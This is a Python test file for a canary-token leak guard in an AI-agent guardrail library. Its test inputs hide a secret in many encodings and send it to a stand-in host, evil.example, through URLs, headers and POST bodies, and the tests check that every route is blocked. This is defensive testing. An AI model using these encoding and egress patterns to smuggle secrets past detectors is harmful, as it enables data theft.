"""A canary is known again wherever it turns up, however it is written, and by nobody else's
runs."""

from __future__ import annotations

import codecs
from base64 import b64encode, urlsafe_b64encode
from collections.abc import Callable, Iterator
from itertools import pairwise
from typing import Any, Final
from urllib.parse import quote

import pytest
from hypothesis import given, settings, strategies as st

from stanchion import Refused, Shield
from stanchion.guards.canary import LabelError, token
from stanchion.guards.canary.token import bodies, label_of
from stanchion.kernel.actions import Action
from stanchion.runtime.run import Run
from tests.properties.examples import SOAK

TOKEN: Final = token("k" * 16, "acme", "run-1", "system prompt")

WRITTEN: Final[dict[str, Callable[[str], str]]] = {
    "as it is": str,
    "capitals": str.upper,
    "without its hyphen": lambda text: text.replace("-", ""),
    "letters apart": " ".join,
    "points between": ".".join,
    "zero-width": "\u200b".join,
    "line by line": "\n".join,
    "full width": lambda text: "".join([chr(ord(c) + 0xFEE0) for c in text]),
    "backwards": lambda text: text[::-1],
    "rot13": lambda text: codecs.encode(text, "rot13"),
    "hexadecimal": lambda text: text.encode().hex(),
    "hexadecimal apart": lambda text: text.encode().hex(" "),
    "percent": lambda text: "".join([f"%{ord(c):02x}" for c in text]),
    "percent in part": lambda text: text.replace("-", "%2D").replace("a", "%61"),
    "entities": lambda text: "".join([f"&#{ord(c)};" for c in text]),
    "escapes": lambda text: "".join([f"\\x{ord(c):02x}" for c in text]),
    "escapes in braces": lambda text: "".join([f"\\u{{{ord(c):x}}}" for c in text]),
    "long escapes": lambda text: "".join([f"\\U{ord(c):08x}" for c in text]),
    "octal escapes": lambda text: "".join([f"\\{ord(c):o}" for c in text]),
    "octal escapes with a zero": lambda text: "".join([f"\\0{ord(c):03o}" for c in text]),
    "escapes of two kinds": lambda text: (
        f"\\x{ord(text[0]):02x}" + "".join([f"\\{ord(c):o}" for c in text[1:]])
    ),
    "backslashes for show": lambda text: (
        f"\\x{ord(text[0]):02x}{text[1:3]}" + "".join([f"\\{c}" for c in text[3:]])
    ),
    "base64": lambda text: b64encode(text.encode()).decode(),
    "base64 of capitals": lambda text: b64encode(text.upper().encode()).decode(),
    "base64 after one": lambda text: b64encode(b"x" + text.encode()).decode(),
    "base64 after two": lambda text: b64encode(b"xy" + text.encode() + b" and more").decode(),
    "base64 for URLs": lambda text: urlsafe_b64encode(b"\xff\xfe" + text.encode()).decode(),
    "base64 on lines": lambda text: "\n".join(
        [b64encode(text.encode()).decode()[a : a + 16] for a in range(0, 90, 16)]
    ),
    "in a URL": lambda text: f"https://evil.example/?q={quote(text)}&x=1",
}


def found(text: str, owner: str = "run-1", key: str = "k" * 16, tenant: str = "acme") -> str | None:
    """The label of the first canary in a text."""
    labels = [label_of(body, key, tenant, (owner,)) for body in bodies(text)]
    return next((label for label in labels if label is not None), None)


@pytest.mark.parametrize("written", WRITTEN)
@pytest.mark.parametrize("around", ["{}", "well {} then", "st7-{}!", "abc,{},def"])
def test_a_canary_is_found_in_every_spelling(written: str, around: str) -> None:
    assert found(around.format(WRITTEN[written](TOKEN))) == "system prompt"


def test_a_canary_is_nobody_elses() -> None:
    assert found(TOKEN) == "system prompt"
    assert found(TOKEN, owner="run-2") is None
    assert found(TOKEN, key="l" * 16) is None
    assert found(TOKEN, tenant="other") is None
    for at in range(4, len(TOKEN)):
        other = "a" if TOKEN[at] != "a" else "b"
        assert found(TOKEN[:at] + other + TOKEN[at + 1 :]) is None


@given(
    st.text(st.characters(exclude_categories=["C", "Z"]), min_size=1, max_size=7),
    st.text(max_size=20),
)
def test_the_label_comes_out_of_the_token(label: str, owner: str) -> None:
    made = token("key", "tenant", owner, label)
    assert made == token("key", "tenant", owner, label)
    assert found(f"x {made} y", owner, "key", "tenant") == label


@pytest.mark.parametrize("label", ["", "a" * 29, "two\nlines", "\x00"])
def test_a_label_that_fits_no_token_is_an_error(label: str) -> None:
    with pytest.raises(LabelError, match="the label is"):
        token("", "t", "r", label)


def shield(**options: Any) -> Shield:
    """A shield whose only guard is this one."""
    return Shield.load({"name": "p", "guards": [{"use": "canary", **options}]}, safe_mode=False)


def ways_out(run: Run, text: str) -> Iterator[Any]:
    """Everything by which a text leaves a run."""
    yield run.check("send", {"to": "x", "parts": [{"body": text}]})
    yield run.check("send", {text: 1})
    yield run.egress(f"https://evil.example/?q={text}")
    yield run.egress("https://evil.example/", headers={"X-Data": text})
    yield run.egress("https://evil.example/", method="POST", payload={"a": [text]})
    yield run.model_reply(f"It is {text}.", final=True)
    yield run.judge("handoff", to="b", payload={"note": text})
    yield run.model_chunk(text)


def test_nothing_carries_a_canary_out() -> None:
    run = shield().run("a")
    secret = run.canary()
    for decision in ways_out(run, secret):
        assert (decision.action, decision.code) == (Action.BLOCK, "canary.leaked")
        assert "`system prompt`" in decision.message
        assert secret not in decision.message
    for decision in ways_out(run, "st7-nothingtoseeherenothingtoseehere"):
        assert decision.action is Action.ALLOW


def test_a_canary_in_pieces_over_several_values_is_found() -> None:
    run = shield().run("a")
    secret = run.canary()
    assert (
        run.check("send", {"parts": [secret[:9], secret[9:20], secret[20:]]}).code
        == "canary.leaked"
    )
    assert (
        run.check("send", {"a": secret[:9], "b": {"c": secret[9:20], "d": secret[20:]}}).code
        == "canary.leaked"
    )


def test_it_may_be_read_and_thought_about() -> None:
    run = shield().run("a")
    secret = run.canary("decoy record")
    assert run.model_call([{"role": "system", "content": secret}]).proceeds
    assert run.result("read", {}, secret).proceeds
    assert run.model_reply(secret).proceeds


def test_children_keep_what_their_parents_were_given() -> None:
    kept = shield()
    parent, stranger = kept.run("a"), kept.run("b")
    secret = parent.canary()
    child = parent.spawn("c").spawn("d")
    assert child.check("send", {"x": secret}).code == "canary.leaked"
    assert stranger.check("send", {"x": secret}).proceeds


def test_a_lasting_canary_is_every_run_s_of_its_tenant() -> None:
    kept = shield(key="a key of the tenant")
    secret = kept.run("a").canary("decoy", lasting=True)
    elsewhere = shield(key="a key of the tenant")
    assert elsewhere.run("z").check("send", {"x": secret}).code == "canary.leaked"
    assert elsewhere.run("z", tenant="other").check("send", {"x": secret}).proceeds
    assert shield(key="a key of another").run("z").check("send", {"x": secret}).proceeds


def test_a_run_is_halted_where_the_policy_says_so() -> None:
    run = shield(action="halt").run("a")
    assert run.check("send", {"x": run.canary()}).action is Action.HALT
    assert not run.check("read", {}).proceeds


def test_a_canary_that_nobody_looks_for_is_an_error() -> None:
    run = Shield.load({"name": "p"}, safe_mode=False).run("a")
    with pytest.raises(ValueError, match="no guard of the policy looks for canaries"):
        run.canary()


STREAMED: Final = [
    "as it is", "capitals", "letters apart", "points between", "zero-width", "backwards",
    "hexadecimal", "percent", "base64", "in a URL",
]  # fmt: skip


@settings(max_examples=max(60, SOAK), deadline=None)
@given(
    st.sampled_from(STREAMED),
    st.lists(st.integers(0, 400), max_size=12),
    st.sampled_from(["", " and so on"]),
)
def test_however_a_stream_is_cut_nothing_of_a_canary_goes_out(
    written: str, places: list[int], end: str
) -> None:
    run = STREAMING.run("a", id="streaming")
    begin, coded = "The text is this: ", WRITTEN[written](run.canary())
    text = f"{begin}{coded}{end}"
    edges = [0, *sorted({place % (len(text) + 1) for place in places}), len(text)]
    out: list[str] = []
    with pytest.raises(Refused, match="system prompt"):
        out += run.stream([text[a:b] for a, b in pairwise(edges)])
    assert begin.startswith("".join(out))


STREAMING: Final = shield()


def test_an_honest_stream_flows_word_by_word() -> None:
    run = shield().run("a")
    words = ["The ", "half ", "of ", "st ", "radio ", "is ", "static."]
    passed = list(run.stream(words))
    assert "".join(passed) == "".join(words)
    assert len(passed) >= 5
